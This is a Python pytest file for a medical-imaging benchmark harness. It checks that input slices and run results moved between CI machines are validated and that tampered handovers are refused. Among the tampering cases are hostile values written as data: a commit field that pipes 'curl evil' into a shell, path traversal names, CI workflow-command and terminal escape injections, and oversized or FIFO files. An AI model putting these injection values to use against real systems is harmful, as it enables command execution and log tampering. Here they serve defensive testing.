"""Noisy slices and outputs that travel between machines, further slices among them. No container runs here."""

from __future__ import annotations

import contextlib
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec
import numpy as np
import pytest

from harness.base.digests import digest_json
from harness.base.errors import OutputsError, UsageError
from harness.base.slices import read_grey, write_grey
from harness.base.structs import write_json
from harness.ci.transfer import TransferredRun, read_inputs, read_run, write_inputs, write_run
from harness.dataset.cases import Case, Dataset, FurtherSlice
from harness.pipeline.container_run import RunOutcome
from harness.pipeline.result import observed_without_engine
from harness.protocol import Protocol, load_protocol
from harness.records.schema import About, SubmissionFacts
from harness.run.result import digest_outputs
from harness.submission.manifest import Takes

FACTS = SubmissionFacts(slug="s", name="S", version="1", authors=("T",), digest="0" * 64, family=(), anchor=False)
ABOUT = About()


@pytest.fixture(scope="module")
def protocol() -> Protocol:
    return load_protocol("phantom-mini")


@pytest.fixture
def dataset(tmp_path: Path) -> Dataset:
    rng = np.random.default_rng(2)
    paths = {}
    for name in ("a", "b", "a-lesions", "b-again", "b-plus"):
        paths[name] = str(tmp_path / "data" / f"{name}.png")
        write_grey(Path(paths[name]), rng.integers(0, 256, (24, 16), dtype=np.uint8))
    return Dataset(
        cases=tuple(Case(name=name, patient=name, lq=paths[name], gt=paths[name], pixel_mm=0.7) for name in "ab"),
        further=(
            FurtherSlice(name="a-lesions", lq=paths["a-lesions"], of="a", kind="lesions", pixel_mm=0.7),
            FurtherSlice(name="b-again", lq=paths["b-again"], of="b", kind="again", pixel_mm=0.7),
            FurtherSlice(name="b-plus", lq=paths["b-plus"], of="b", kind="plus", pixel_mm=0.7),
        ),
        window_hu=(-1024.0, 1200.0),
        digest="d" * 64,
        names_key=b"k" * 32,
    )


def test_further_slices_travel_with_the_inputs(tmp_path: Path, dataset: Dataset, protocol: Protocol) -> None:
    write_inputs(dataset, protocol, tmp_path / "inputs")
    found = read_inputs(tmp_path / "inputs", protocol)
    assert [(one.name, one.of, one.kind, one.pixel_mm) for one in found.further] == [
        ("a-lesions", "a", "lesions", 0.7),
        ("b-again", "b", "again", 0.7),
        ("b-plus", "b", "plus", 0.7),
    ]
    assert [case.name for case in found.cases] == ["a", "b"]
    for one, origin in zip(found.shown, dataset.shown, strict=True):
        np.testing.assert_array_equal(read_grey(Path(one.lq)), read_grey(Path(origin.lq)))
    assert (found.digest, found.names_key, found.window_hu) == (dataset.digest, dataset.names_key, dataset.window_hu)
    # the pixels of a further slice are checked as those of a case
    write_grey(tmp_path / "inputs" / "lq" / "b-plus.png", read_grey(Path(dataset.cases[0].lq)))
    with pytest.raises(UsageError, match="digest of the slices"):
        read_inputs(tmp_path / "inputs", protocol)


def test_without_further_slices_the_note_is_as_it_was(tmp_path: Path, dataset: Dataset, protocol: Protocol) -> None:
    write_inputs(msgspec.structs.replace(dataset, further=()), protocol, tmp_path / "inputs")
    note = json.loads((tmp_path / "inputs" / "inputs.json").read_text())
    assert set(note) == {"schema", "protocol", "data", "slices", "window_hu", "names_key", "cases"}
    assert read_inputs(tmp_path / "inputs", protocol).further == ()


def test_series_and_positions_travel_with_the_inputs(tmp_path: Path, dataset: Dataset, protocol: Protocol) -> None:
    first, second = dataset.cases
    placed = (msgspec.structs.replace(first, series="p", position_mm=0.0), msgspec.structs.replace(second, series="p"))
    write_inputs(msgspec.structs.replace(dataset, cases=placed), protocol, tmp_path / "inputs")
    found = read_inputs(tmp_path / "inputs", protocol)
    assert [(case.series, case.position_mm) for case in found.cases] == [("p", 0.0), ("p", None)]
    write_inputs(dataset, protocol, tmp_path / "unplaced")
    listed = json.loads((tmp_path / "unplaced" / "inputs.json").read_text())["cases"]
    assert all(set(one) == {"name", "pixel_mm"} for one in listed)


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"of": "c"}, "further slices of no case: expected [], found ['b-plus']"),
        ({"name": "b"}, "names that repeat: expected [], found ['b']"),
        ({"name": "b-again"}, "names that repeat: expected [], found ['b-again']"),
        ({"kind": "twice"}, "kind"),
        ({"name": "../../etc/x"}, "names that are none of a file: expected [], found ['../../etc/x']"),
        ({"name": "\u2028"}, "names that are none of a file"),
    ],
)
def test_a_list_that_would_show_a_plane_twice_is_refused(
    tmp_path: Path, dataset: Dataset, protocol: Protocol, changes: dict[str, Any], said: str
) -> None:
    write_inputs(dataset, protocol, tmp_path / "inputs")
    path = tmp_path / "inputs" / "inputs.json"
    note = json.loads(path.read_text())
    note["further"][2] |= changes
    path.write_text(json.dumps(note))
    with pytest.raises(UsageError) as caught:
        read_inputs(tmp_path / "inputs", protocol)
    assert said in caught.value.message


Altered = Callable[[dict[str, Any]], object]


@pytest.mark.parametrize(
    ("alter", "said"),
    [
        (lambda run: run.update(takes={"input": "uint16-hu"}), "takes: expected"),
        (lambda run: run["observed"].update(date="2999-01-01T00:00:00Z"), "in the future"),
        (lambda run: run["observed"].update(date="\u202e"), "date: expected"),
        (lambda run: run["observed"].update(commit="x; curl evil | sh"), "commit: expected"),
        (lambda run: run["observed"].update(files={"../../x": "0" * 64}), "file 0: expected"),
        (lambda run: run["observed"].update(engine="\x1b[2J"), "control characters or CI commands"),
        (lambda run: run["observed"]["machine"].update(about="x\u2028::stop-commands::t"), "control characters"),
        (lambda run: run["observed"]["machine"].update({"::error::": "x"}), "control characters"),
        (lambda run: run["observed"].update(lowered=["\u202e"]), "control characters"),
        (lambda run: run["observed"].update(log="x" * (1 << 20)), "at most 1048576 are allowed"),
        (lambda run: run.update(outputs=None, schema=2), "schema"),
    ],
)
def test_a_handover_is_refused_by_what_is_wrong_with_it(
    tmp_path: Path, dataset: Dataset, protocol: Protocol, alter: Altered, said: str
) -> None:
    images = {case.name: read_grey(Path(case.lq)) for case in dataset.shown}
    observed = msgspec.structs.replace(observed_without_engine(protocol), about=ABOUT)
    outcome = RunOutcome(submission=FACTS, device="cpu", outputs=digest_outputs(images), observed=observed)
    folder = tmp_path / "run"
    written = write_run(folder, outcome, {one.name: one.lq for one in dataset.shown}, inputs=dataset, protocol=protocol)
    raw = msgspec.to_builtins(written)
    alter(raw)
    with contextlib.suppress(msgspec.ValidationError):  # whoever alters it can make the digest fit
        raw["digest"] = digest_json(msgspec.structs.replace(msgspec.convert(raw, TransferredRun), digest=""))
    write_json(folder / "run.json", raw)
    with pytest.raises(UsageError) as caught:
        read_run(folder, submission=FACTS, about=ABOUT, takes=Takes(), dataset=dataset, protocol=protocol)
    assert said in caught.value.message


@pytest.mark.parametrize("kind", ["fifo", "sparse", "null"])
def test_a_handover_that_is_no_file_is_refused(tmp_path: Path, dataset: Dataset, protocol: Protocol, kind: str) -> None:
    path = tmp_path / "run" / "run.json"
    path.parent.mkdir()
    if kind == "fifo":
        os.mkfifo(path)
    else:
        path.write_bytes(b"null")
    if kind == "sparse":
        os.truncate(path, 3 << 30)
    with pytest.raises(UsageError, match=r"run\.json: (is not a regular file|has 3221225472 bytes|Expected `object`)"):
        read_run(path.parent, submission=FACTS, about=ABOUT, takes=Takes(), dataset=dataset, protocol=protocol)


def test_outputs_of_further_slices_are_handed_over_and_checked_as_strictly(
    tmp_path: Path, dataset: Dataset, protocol: Protocol
) -> None:
    images = {one.name: read_grey(Path(one.lq)) for one in dataset.shown}
    outcome = RunOutcome(
        submission=FACTS,
        device="cpu",
        takes=Takes(context=1),
        outputs=digest_outputs(images),
        observed=msgspec.structs.replace(observed_without_engine(protocol), about=ABOUT),
    )
    folder = tmp_path / "run"
    outputs = {one.name: one.lq for one in dataset.shown}
    write_run(folder, outcome, outputs, inputs=dataset, protocol=protocol)

    def read() -> dict[str, Any]:
        run, found = read_run(
            folder, submission=FACTS, about=ABOUT, takes=Takes(context=1), dataset=dataset, protocol=protocol
        )
        assert run.takes == Takes(context=1)
        return dict(found)

    found = read()
    assert set(found) == set(images)
    assert all((found[name] == images[name]).all() for name in images)
    file = folder / "outputs" / "b-plus.png"
    sound = file.read_bytes()
    file.write_bytes((folder / "outputs" / "b.png").read_bytes())
    with pytest.raises(UsageError, match="digest of the outputs"):
        read()
    file.unlink()
    with pytest.raises(OutputsError, match=r"1 missing: b-plus\.png"):
        read()
    file.write_bytes(sound)
    (folder / "outputs" / "c.png").write_bytes(sound)
    with pytest.raises(OutputsError, match="1 not expected"):
        read()
    (folder / "outputs" / "c.png").unlink()
    # a machine that knows other further slices takes none of it
    fewer = msgspec.structs.replace(dataset, further=dataset.further[:2])
    with pytest.raises(UsageError, match="slices: expected"):
        read_run(folder, submission=FACTS, about=ABOUT, takes=Takes(context=1), dataset=fewer, protocol=protocol)
